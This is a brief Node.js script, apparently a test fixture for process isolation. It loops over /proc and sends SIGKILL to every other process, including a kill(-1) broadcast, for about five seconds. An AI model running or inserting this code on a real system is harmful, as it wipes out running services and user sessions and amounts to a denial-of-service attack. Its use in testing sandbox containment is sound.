import { readdirSync } from 'node:fs'

for (;;) {
  for (const pid of readdirSync('/proc').map(Number)) {
    if (!pid || pid === process.pid) continue
    try {
      process.kill(pid, 'SIGKILL')
    } catch {}
  }
  try {
    process.kill(-1, 'SIGKILL')
  } catch {}
  if (process.uptime() > 5) process.exit(0)
}
